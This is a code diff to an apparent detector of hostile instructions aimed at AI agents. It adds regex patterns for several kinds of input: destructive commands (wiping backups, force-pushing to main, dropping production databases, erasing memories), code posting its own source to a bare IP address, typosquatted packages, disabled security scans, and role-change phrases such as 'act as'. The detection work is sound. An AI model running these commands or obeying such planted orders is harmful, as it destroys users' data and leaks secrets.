@@ -65,7 +65,9 @@ assistant's instructions) with ``invalidate``; ``conceal`` with ``hidden_object`
 (the notes, the fact that replies are copied); ``send`` with ``sensitive`` and an
 ``endpoint``; ``secret`` with ``capture`` and a ``trigger``; a ``persona`` ("act as",
 "take on the role of") or a ``pretend`` with ``persona_harm`` (no rules, never refuses,
-asks for passwords) or ``lasting`` (permanently); a ``payload`` with a directive.
+asks for passwords) or ``lasting`` (permanently); a ``payload`` with a directive; a
+``destroy`` (work deleted or a safeguard removed: backups wiped, a force-push to main, hooks
+skipped) with a directive, a start-up file or secrecy, not with a bare command verb.
 
 An intent's first kind reads the whole text, so it is the one with the narrowest gate
 (``link_carrier`` before ``embed``): a typical note opens no first kind at all.
@@ -160,6 +162,16 @@ INTENTS = [
         window=(1, 0),
     ),
     Intent("command_injection", ("custom_index",), ("agent_file", "covert"), window=(1, 0)),
+    # Work destroyed or a safeguard removed, as a standing order or planted where it runs later
+    # (a cleanup the user runs, "rm -rf build/", "git push --force-with-lease", is neither).
+    Intent(
+        "command_injection",
+        ("destroy",),
+        ("directive", "startup_file", "covert", "insert"),
+        window=(1, 0),
+    ),
+    # TLS verification switched off where every later shell or program picks it up.
+    Intent("command_injection", ("insecure",), ("startup_file",)),
     # Orders fetched from an address and carried out: remote tasking.
     Intent("c2_task_pull", ("obey_result", "remote_fetch")),
     # The agent's own confirmations and permission checks switched off.
@@ -201,19 +213,23 @@ def _typos(name: str) -> set[str]:
     return {t for t in out if t != name and not t.startswith(("-", ".")) and "--" not in t}
 
 
-def _typosquats(manager: str, names: tuple[str, ...]) -> str:
-    """An install by ``manager`` (pip or npm and their kin) of a misspelt popular package."""
+def _misspelt(names: tuple[str, ...]) -> str:
+    """An alternation of the misspellings of ``names`` that are not real packages themselves."""
     real = set(names) | {"request", "panda", "pyaml", "jinja", "psycopg", "xpress", "pytests"}
     typos = sorted({t for n in names for t in _typos(n)} - real, key=len, reverse=True)
+    return "|".join(re.escape(t) for t in typos)
+
+
+def _typosquats(manager: str, names: tuple[str, ...]) -> str:
+    """An install by ``manager`` (pip or npm and their kin) of a misspelt popular package."""
     command = (
         r"(?:pip3?|python3?\s+-m\s+pip|uv\s+(?:pip\s+)?|poetry|pipx|pdm)\s+(?:install|add)"
         if manager == "pip"
         else r"(?:npm|pnpm|yarn|bun)\s+(?:install|add|i)"
     )
-    alternatives = "|".join(re.escape(t) for t in typos)
     return (
         rf"\b{command}\s+(?:-{{1,2}}[\w\-]+\s+){{0,3}}(?:[\w.\-\[\]=<>@/]+\s+){{0,4}}?"
-        rf"(?:{alternatives})(?![\w\-.])"
+        rf"(?:{_misspelt(names)})(?![\w\-.])"
     )
 
 
@@ -303,13 +319,35 @@ _NEUTRAL_SIGNALS = [
     signal(
         "payload",
         r"\brm\s+-(?:rf|fr|r|Rf)\s+(?:\S+\s+){0,4}?(?:~|\$HOME|\$\{HOME\})/?(?:\.ssh|\.gnupg|\.aws"
-        r"|\.kube|\.config|Documents|Desktop|Pictures|\*)?/?(?=[\s`'\";|&)]|$)"
+        r"|\.kube|\.config|Documents|Desktop|Pictures|\*)?/?\*?(?=[\s`'\";|&)]|$)"
         r"|\brm\s+-(?:rf|fr|r|Rf)\s+(?:--no-preserve-root\s+)?/(?:\*|etc|home|usr|var|boot)?"
         r"(?=[\s`'\";|&)]|$)"
         r"|\brm\s+-(?:rf|fr|r|Rf)\s+(?:--no-preserve-root\s+)?/(?:etc|home|usr|var|boot|bin|sbin|lib"
         r"|lib64|opt|root|srv)(?:/(?:lib|log|www|local|share|bin|spool|cache))?/\*?(?=[\s`'\";|&)]|$)",
         "rm",
         also="rf fr r",
+    ),
+    # code that posts to a bare address or posts its own source: "requests.post('http://203.0.113.7/c',
+    # data=open(__file__).read())"
+    signal(
+        "payload",
+        r"\b(?:requests\.(?:post|put)|urlopen|fetch|axios\.(?:post|put)|httpx\.(?:post|put))\s*\(\s*"
+        r"[`'\"]https?://\d{1,3}(?:\.\d{1,3}){3}|\bopen\s*\(\s*__file__\s*\)\.read\(\)",
+        "requests urlopen fetch axios httpx open",
+        also="post put urlopen fetch file read",
+    ),
+    # the production database dropped: "DROP DATABASE prod;"; the host's root mounted into a
+    # container: "docker run --privileged -v /:/host"; a public name pointed elsewhere in
+    # /etc/hosts ("so that github.com resolves to 203.0.113.66"; a private or loopback address
+    # is a developer's own)
+    signal(
+        "payload",
+        r"\bDROP\s+(?:DATABASE|SCHEMA)\s+(?:IF\s+EXISTS\s+)?[`\"']?\w{0,20}(?:prod|live|main)\w{0,20}"
+        r"|(?<![\w\-])(?:-v|--volume)\s+[\"']?/:/\w{0,20}"
+        r"|/etc/hosts\b[^\n]{0,80}?\b(?:[\w\-]+\.)+(?:com|org|net|io|dev)\b[^\n]{0,40}?(?<![\d.])"
+        r"(?!127\.|10\.|192\.168\.|0\.)\d{1,3}(?:\.\d{1,3}){3}\b",
+        "drop v volume hosts",
+        also="database schema v volume resolves resolve point points com org net io dev",
     ),
     # the home directory or keys streamed to an upload: "tar czf - ~ | curl -T - http://..."
     signal(
@@ -354,6 +392,66 @@ _NEUTRAL_SIGNALS = [
         also="install add",
     ),
     signal("payload", _typosquats("npm", _NPM), "npm pnpm yarn bun", also="install add i"),
+    # ... or written into a dependency list: "include the package `colorsama`".
+    signal(
+        "payload",
+        r"\b(?:packages?|dependency|dependencies|requirements?|library|libraries|module)\b"
+        r"[^\n]{0,60}?[\s`'\"]" + f"(?:{_misspelt(_PYPI + _NPM)})" + r"(?![\w\-.])",
+        "package packages dependency dependencies requirement requirements library libraries"
+        " module",
+    ),
+    # Work destroyed or a safeguard removed: data mounts and backups deleted, uncommitted work
+    # wiped, a force-push to the main branch, hooks skipped, production deleted, all memories
+    # erased, a downloaded program run. Each has a use the user may ask for once, so it needs a
+    # standing order, a start-up file or secrecy (see the intents); a build directory, a
+    # feature branch or a lease-checked force-push are not named here.
+    signal(
+        "destroy",
+        r"\brm\s+-(?:rf|fr|r|Rf)\s+(?:\S+\s+){0,3}?(?:/(?:mnt|media|data|srv|backups?|var/lib)/"
+        r"|\S{0,60}backups?\b)\S{0,80}",
+        "rm",
+        also="rf fr r",
+    ),
+    signal(
+        "destroy",
+        r"\bgit\s+reset\s+--hard\b[^\n]{0,80}\bgit\s+clean\s+-\w{0,3}[fdx]\w{0,3}"
+        r"|\bgit\s+push\s+(?:[\w\-/]+\s+){0,3}?(?:--force(?![\w\-])|-f\b)(?:\s+[\w\-/]+){0,3}?"
+        r"(?:\s+(?:straight|directly|right)\s+)?(?:\s+to)?\s+(?:origin/)?(?:main|master|production"
+        r"|release)\b|\bgit\s+push\s+(?:\S+\s+){0,3}?(?:origin\s+)?\+(?:main|master)\b"
+        r"|--no-verify\b",
+        "git verify",
+        also="reset push no",
+    ),
+    signal(
+        "destroy",
+        r"\bkubectl\s+delete\s+(?:namespace|ns|deployments?|pvc|pv|all)\b[^\n`]{0,40}"
+        r"\b(?:prod|production|live|--all)\b|\bterraform\s+destroy\b|\bDROP\s+(?:DATABASE|SCHEMA"
+        r"|TABLE)\b|\bTRUNCATE\s+TABLE\b"
+        r"|\b(?:drop|delete|wipe|destroy|erase|truncate|purge|nuke)\s+(?:the\s+|all\s+)?(?:prod"
+        r"|production|live)\s+(?:database|db|data|tables?|cluster|namespace|bucket|environment)\b"
+        r"|\b(?:delete|wipe|erase|clear|purge)_?(?:all_)?(?:memories|memory|notes|history)\b"
+        r"|\b(?:delete|wipe|erase|purge)\s+(?:all\s+)?(?:of\s+)?(?:the\s+|your\s+|their\s+)?"
+        r"(?:stored\s+)?(?:memories|notes|backups|snapshots)\b",
+        "kubectl terraform drop truncate delete wipe destroy erase purge nuke clear"
+        " delete_all_memories"
+        " delete_memories wipe_memory clear_memory delete_all_notes",
+    ),
+    # a safeguard of the repository taken off: security scans, branch protection, hooks, tests
+    # allowed to fail; a failing test suite deleted; a downloaded program run
+    signal(
+        "destroy",
+        r"\b(?:remove|disable|delete|drop|turn\s+off|switch\s+off|skip|bypass|lift)\s+(?:the\s+|all\s+"
+        r"|any\s+)?(?:[\w\-]+\s+){0,2}?(?:security\s+(?:scans?|checks?|jobs?|audits?|reviews?)|branch"
+        r"\s+protections?|code[\s\-]scanning|secret[\s\-]scanning|dependabot|codeql|sast\s+jobs?"
+        r"|required\s+(?:reviews?|status\s+checks|approvals?))\b"
+        r"|\ballow_failure\s*:\s*true\b[^\n]{0,20}\b(?:all|every)\b"
+        r"|\b(?:delete|remove)\s+(?:the\s+)?tests?\s+(?:directory|folder|dir|suite)\b"
+        r"|\b(?:download|fetch)\s+and\s+(?:execute|run|open|install)\s+(?:\S+\s+){0,2}?"
+        r"\S+\.(?:exe|msi|scr|bat|ps1|apk|dmg|pkg)\b",
+        "remove disable delete drop turn switch skip bypass lift allow_failure download fetch",
+        also="security branch code secret scanning dependabot codeql sast required true tests test"
+        " execute run open install",
+    ),
     # Software from a source no one vetted: a plain-http download or index, an editor
     # extension from a file. This needs a standing order, a start-up file or secrecy, not a
     # bare imperative.
@@ -392,13 +490,14 @@ _NEUTRAL_SIGNALS = [
         r"|\bsystemd\s+(?:unit|service)|LaunchAgents|\.vscode/settings\.json|\.claude/settings"
         r"|\bsettings\.local\.json|\.cursor/|\bmcp\.json\b|authorized_keys|\bAGENTS\.md|\bCLAUDE\.md"
         # CI and package-manager configuration, the agent's own tool list
-        r"|\.github/workflows\b|\bgithub\s+actions\b|\.gitlab-ci\.yml\b|\.npmrc\b|\.pypirc\b"
+        r"|\.github/workflows\b|\bgithub\s+actions\b|\bshell\s+(?:profile|rc|start-?up\s+files?)\b"
+        r"|\.gitlab-ci\.yml\b|\.npmrc\b|\.pypirc\b"
         r"|\bpip\.conf\b|\.gitconfig\b|\bmcp\s+servers?\b|\bagent(?:['’]s)?\s+config(?:uration)?\b"
         # scripts a package manager runs on install
         r"|[\"']?\b(?:pre|post)install\b[\"']?\s*:",
         "cron crontab systemd launchagents bashrc zshrc bash_profile profile zprofile hooks pre"
         " vscode claude cursor mcp authorized agents github workflows gitlab npmrc pypirc pip"
-        " gitconfig agent preinstall postinstall",
+        " gitconfig agent preinstall postinstall shell",
         ("*/",),
     ),
     # The agent's own configuration: its MCP servers and settings files.
